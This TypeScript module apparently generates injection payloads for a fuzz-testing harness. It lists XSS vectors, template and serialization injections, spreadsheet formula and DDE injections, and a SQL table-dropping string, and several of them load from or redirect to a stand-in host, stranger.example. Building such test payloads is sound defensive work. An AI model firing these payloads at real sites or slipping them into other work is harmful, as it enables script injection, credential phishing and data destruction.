import type { Chance } from '../rounds.ts';

/** A text that is markup or code wherever it is not written as text. `mark` stands in it once and nowhere else. */
export type Payload = { mark: string; text: string };

/** `M`: the mark. What came to be an element has `data-xss`; what runs calls `__xss`; what is fetched goes to a stranger. */
const templates: readonly string[] = [
  '<s data-xss>M',
  '"><s data-xss>M',
  "'><s data-xss>M",
  '`><s data-xss>M',
  '<s data-xss=M',
  '&lt;s data-xss&gt;M',
  '&amp;lt;b&amp;gt;M',
  "<script>__xss('M')</script>",
  "</script><script>__xss('M')</script>",
  "<ScRiPt data-xss>__xss('M')</sCrIpT>",
  "<scr<script>ipt>__xss('M')</scr</script>ipt>",
  '<script data-xss src=//stranger.example/M></script>',
  "<img src=x data-xss onerror=__xss('M')>",
  '"><img src=x data-xss onerror="__xss(\'M\')">',
  "'-__xss('M')-'",
  '"-__xss(\'M\')-"',
  "\\'-__xss('M')//",
  "</style><script data-xss>__xss('M')</script>",
  "</title><svg data-xss onload=__xss('M')>",
  "</textarea><svg data-xss onload=__xss('M')>",
  "--><svg data-xss onload=__xss('M')>",
  "]]><svg data-xss onload=__xss('M')>",
  "<![CDATA[<s data-xss onclick=__xss('M')>]]>",
  "<svg data-xss><script>__xss('M')</script></svg>",
  "<svg/data-xss/onload=__xss('M')//",
  '<math data-xss><mi xlink:href="javascript:__xss(\'M\')">x',
  "<body data-xss onload=__xss('M')>",
  "<details data-xss open ontoggle=__xss('M')>",
  "<input data-xss autofocus onfocus=__xss('M')>",
  '<iframe data-xss srcdoc="<script>parent.__xss(\'M\')</script>">',
  '<link data-xss rel=stylesheet href=//stranger.example/M>',
  '<base data-xss href=//stranger.example/M/>',
  '<meta data-xss http-equiv=refresh content="0;url=//stranger.example/M">',
  '<form data-xss action=//stranger.example/M><button>Pay',
  '<a data-xss href=//stranger.example/M>Pay here</a>',
  "javascript:__xss('M')",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */__xss('M') )//",
  "data:text/html,<script data-xss>__xss('M')</script>",
  "{{constructor.constructor('__xss(`M`)')()}}",
  "\x24{__xss('M')} #{__xss('M')} <%= __xss('M') %>",
  '{"__html":"<s data-xss>M</s>"}',
  '{"$$typeof":"Symbol(react.element)","type":"s","M":1}',
  '$undefined $L1 $@2 M',
  'background:url(//stranger.example/M);}*{color:red',
  '</script ><s data-xss>M <!--<script>',
  '<!--$?--><template data-xss id="B:0">M</template>',
  ' id="__next_error__" M',
  '＜s data-xss＞M＜/s＞',
  '\\u003cs data-xss\\u003eM',
  '%3Cs%20data-xss%3EM',
  '=HYPERLINK("//stranger.example/M","x")',
  '@SUM(1+9)*cmd|M',
  "Robert'); DROP TABLE merchant;--M",
  'مرحبا <s data-xss>M</s> שלום',
];

const markLength = 6;

/** Every way of being markup, for fields of any length. */
export const payloadCount = templates.length;

export type Draw = {
  /** The n-th payload, whatever its length. */
  nth: (index: number) => Payload;
  /** One that fits; undefined where none does. */
  fitting: (mostLength: number) => Payload | undefined;
  any: () => Payload;
};

const marksARound = 36 ** 3;

/** Draws payloads, each with a mark of its own; rounds do not share any. */
export function drawPayloads(chance: Chance, round: number): Draw {
  let made = round * marksARound;
  const filled = (template: string): Payload => {
    made += 1;
    const mark = `q${made.toString(36).padStart(markLength - 2, '0')}z`;
    return { mark, text: template.replaceAll('M', mark) };
  };
  return {
    any: () => filled(chance.of(templates as [string, ...string[]])),
    nth: (index) => filled(templates[index % templates.length] ?? ''),
    fitting: (mostLength) => {
      const [first, ...rest] = templates.filter((template) => template.replaceAll('M', ' '.repeat(markLength)).length <= mostLength);
      return first === undefined ? undefined : filled(chance.of([first, ...rest]));
    },
  };
}
